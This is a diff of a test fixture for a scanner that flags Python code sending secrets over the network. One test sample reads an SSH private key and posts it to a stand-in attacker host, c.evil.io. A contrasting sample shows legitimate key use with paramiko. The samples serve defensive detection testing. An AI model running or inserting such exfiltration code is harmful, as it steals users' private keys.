@@ -4,7 +4,7 @@ import { brief, scanTexts } from "./scan.fixture.ts";
 const python: readonly (readonly [about: string, code: string, expected: readonly string[]])[] = [
   [
     "a private key that is posted",
-    'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://c.evil.io/x", data=k)\n',
+    'import requests\nk = open("/home/ann/.ssh/id_rsa").read()\nrequests.post("https://c.evil.io/x", data=k)\n',
     ["block flow-secret-network a.py:3"],
   ],
   [
@@ -70,7 +70,7 @@ const python: readonly (readonly [about: string, code: string, expected: readonl
   ["a decoded image", 'import base64\nopen("a.png", "wb").write(base64.b64decode(d))\n', []],
   [
     "a private key for ssh itself",
-    'import paramiko\nc.connect("h.dev", key_filename="/root/.ssh/id_rsa")\n',
+    'import paramiko\nc.connect("h.dev", key_filename="/home/ann/.ssh/id_rsa")\n',
     [],
   ],
 ];
